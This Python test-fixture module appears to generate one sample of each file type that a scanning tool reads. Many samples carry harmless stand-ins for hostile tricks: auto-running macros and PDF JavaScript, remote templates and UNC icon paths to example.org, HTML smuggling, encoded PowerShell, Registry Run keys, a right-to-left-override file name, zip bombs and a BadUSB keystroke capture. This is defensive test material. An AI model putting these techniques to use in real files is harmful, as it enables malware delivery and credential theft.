"""One file of every kind that a reader of ours opens, hostile twists among them, for tests that must meet every reader."""

import bz2
import gzip
import io
import json
import lzma
import subprocess
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pikepdf
from PIL import Image

from gifthorse.demonstration.documents import brochure, letter, locked_zip, photograph
from gifthorse.demonstration.media import MIB, Format, PlacedFile, Scheme, Volume, write_medium
from tests.samples import archives, documents, files, usb

LATE = datetime(2026, 11, 22, tzinfo=UTC)
MACRO = 'Sub AutoOpen()\nShell "calc"\nEnd Sub\n'
SCRIPT = b"@echo off\r\npowershell -enc AAAA\r\n"
FEW = {"a.txt": b"text\n" * 50, "b.bat": SCRIPT, "c.jpg": files.jpeg(), "d/e.exe": archives.program_of()}
INVITE = "<html><body><script>location='http://example.org'</script>" + "x" * 200 + "</body></html>"


def every_kind() -> dict[str, bytes]:
    """Bytes by name."""
    return {**_media(), **_documents(), **_containers(), **_disks(), **_programs_and_texts(), **_usb()}


def _media() -> dict[str, bytes]:
    made = {"photo.jpg": photograph(1, LATE), "f.jpg": files.jpeg(files.exif("Maker", "Model")), "g.gif": files.gif(), "h.bmp": files.bmp()}
    for kind in ("png", "tiff", "webp", "ico", "jpeg2000"):
        out = io.BytesIO()
        Image.effect_noise((64, 64), 30).convert("RGB").save(out, kind)
        made[f"noise.{kind}"] = out.getvalue()
    appended = {"tail.jpg": files.jpeg() + archives.program_of(), "tail.png": files.png() + archives.zip_of(FEW)}
    return made | appended | {"i.mp4": files.mp4(), "j.wav": files.wav()}


def _documents() -> dict[str, bytes]:
    def launching(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.Root.OpenAction = action
        document.attachments["x.exe"] = archives.program_of()

    return {
        "p.pdf": brochure("Pumps", ["one"], script="app.alert(1)", attachment=("a.bat", SCRIPT)),
        "q.pdf": documents.hidden(documents.pdf(launching)),
        "locked.pdf": documents.pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "l.docx": letter("Dear", template="http://example.org/t.dotm"),
        "m.docm": documents.macro_document({"Module1": MACRO}),
        "n.doc": documents.word_binary(extra=documents.vba_streams({"Module1": MACRO}, root="Macros/"), template="http://example.org/x"),
        "o.xls": documents.compound_file({"Workbook": documents.workbook_stream([("S", 1, 2)], auto_open=True)}),
        "s.xlsx": documents.package("xlsx"),
        "t.pptx": documents.package("pptx"),
        "u.odt": documents.open_document(),
        "v.rtf": documents.rich_text(documents.rtf_object(documents.packaged("a.bat", SCRIPT))),
        "w.one": documents.notebook(("a.bat", SCRIPT)),
        "x.eml": documents.mail(html=INVITE, attachments=[("a.bat", SCRIPT), ("b.zip", archives.zip_of(FEW))]),
        "y.msg": documents.outlook_message(html=INVITE, attachments=[("a.docm", documents.macro_document({"M": MACRO}))]),
        "z.mbox": b"From a@example.org Mon Nov  2 10:00:00 2026\n" + documents.mail(attachments=[("a.bat", SCRIPT)]) + b"\n",
    }


def _containers() -> dict[str, bytes]:
    tar, plain = archives.tar_of(FEW), b"some text\n" * 1000
    made = {
        "a.zip": archives.zip_of(FEW),
        "b.zip": archives.zip_with_hidden_member(FEW, "hidden.exe", archives.program_of()),
        "c.zip": locked_zip("secret.doc", b"secret"),
        "d.zip": archives.overlapping_zip(20, 4096),
        "lzma.zip": archives.zip_of(FEW, 14),
        "bz2.zip": archives.zip_of(FEW, 12),
        "e.tar": tar,
        "f.tgz": gzip.compress(tar),
        "g.tbz": bz2.compress(tar),
        "h.txz": lzma.compress(tar),
        "i.lzma": lzma.compress(plain, lzma.FORMAT_ALONE),
        "j.cpio": archives.cpio_of(FEW),
        "k.ar": archives.ar_of(FEW),
        "l.rar": archives.rar4_of(FEW),
        "m.rar": archives.rar5_of(FEW),
        "n.cab": archives.cab_of(FEW),
        "o.chm": archives.chm_of({"/a.htm": (0, b"<html><script>1</script></html>")}),
        "sfx.exe": archives.program_of(archives.zip_of(FEW)),
        "nested.zip": archives.zip_of({"in.tgz": gzip.compress(archives.tar_of({"deep.zip": archives.zip_of(FEW)}))}),
    }
    with tempfile.TemporaryDirectory() as folder:
        for name, content in FEW.items():
            place = Path(folder, "in", name)
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(content)
        for name, options in {
            "p.7z": [],
            "q.7z": ["-mhe=on", "-psecret"],
            "r.7z": ["-m0=PPMd"],
            "s.7z": ["-m0=BZip2"],
            "u.7z": ["-m0=Deflate"],
            "v.7z": ["-psecret"],
            "w.zip": ["-tzip", "-mem=AES256", "-psecret"],
            "x.7z": ["-m0=BCJ", "-m1=LZMA2"],
        }.items():
            subprocess.run(["7z", "a", "-bd", *options, f"{folder}/{name}", f"{folder}/in/."], check=True, capture_output=True)
            made[name] = Path(folder, name).read_bytes()
        subprocess.run(["zstd", "-q", "-", "-o", f"{folder}/y.zst"], input=tar, check=True)
        made["y.tar.zst"] = Path(folder, "y.zst").read_bytes()
    return made


def _disks() -> dict[str, bytes]:
    out = io.BytesIO()
    stick = [PlacedFile(path=name, content=content) for name, content in FEW.items()]
    write_medium(out, [Volume(format=Format.FAT12, size=2 * MIB, files=stick)], scheme=Scheme.MBR)
    disk = out.getvalue()
    return {
        "a.img": disk,
        "b.iso": archives.iso_of({name.rpartition("/")[2]: content for name, content in FEW.items()}),
        "c.vhd": archives.fixed_vhd(disk),
        "d.vhd": archives.dynamic_vhd(disk),
        "e.qcow2": archives.qcow2_of(disk),
        "f.qcow2": archives.qcow2_of(disk, packed=True),
        "g.vmdk": archives.vmdk_of(disk),
        "h.dmg": archives.dmg_of(disk),
        "i.E01": archives.e01_of(disk),
        "j.vhdx": archives.vhdx_of(disk),
    }


def _programs_and_texts() -> dict[str, bytes]:
    return {
        "a.exe": files.pe(original_name="other.exe"),
        "b.so": files.elf(),
        "c.dylib": files.macho(),
        "d.lnk": files.shortcut("C:\\Windows\\System32\\cmd.exe", "/c calc"),
        "autorun.inf": b"[autorun]\r\nopen=a.exe\r\nicon=\\\\example.org\\i.ico\r\n",
        "e.url": b"[InternetShortcut]\r\nURL=file://example.org/x.exe\r\nIconFile=\\\\example.org\\i.ico\r\n",
        "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\example.org\\i.ico\r\n",
        "f.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
        "g.reg": b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Run]\r\n"a"="cmd"\r\n',
        "h.html": b"<html><script>var b=new Blob([atob('TVqQ')]);saveAs(b,'a.exe')</script></html>",
        "i.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        "j.vbs": b'CreateObject("WScript.Shell").Run Chr(99) & Chr(97)\r\n' * 20,
        "k.ps1": b"powershell -enc " + b"SQBFAFgA" * 200,
        "l.txt": "Grüße, 漢字\n".encode("utf-16"),
        "latin.txt": "caf\xe9\n".encode("latin-1"),
        "m.json": json.dumps({"a": 1}).encode(),
        "photo\u202egpj.exe": archives.program_of(),
        "n.xml": b"<?xml version='1.0' encoding='shift_jis'?><a/>",
        "coded.eml": b"From: =?iso-2022-jp?B?GyRCRnxLXBsoQg==?= <a@example.org>\nTo: b@example.org\nSubject: =?koi8-r?B?8NLJ18XU?=\n"
        b"MIME-Version: 1.0\nContent-Type: text/html; charset=euc-kr\nContent-Transfer-Encoding: quoted-printable\n\n=B0=A1\n",
    }


def _usb() -> dict[str, bytes]:
    body = usb.blob(usb.STORAGE, usb.KEYBOARD)
    heard = [*usb.plugged(body, link=220), *usb.typed("calc", chord="GUI-r")]
    return {
        "lsusb.txt": usb.lsusb(usb.STORAGE, usb.KEYBOARD).encode(),
        "descriptors.bin": body,
        "recording.umockdev": usb.recording(("/devices/pci0000:00/usb1/1-1", body)).encode(),
        "heard.pcap": usb.capture(heard),
        "heard.pcapng": usb.capture(heard, form="pcapng"),
    }
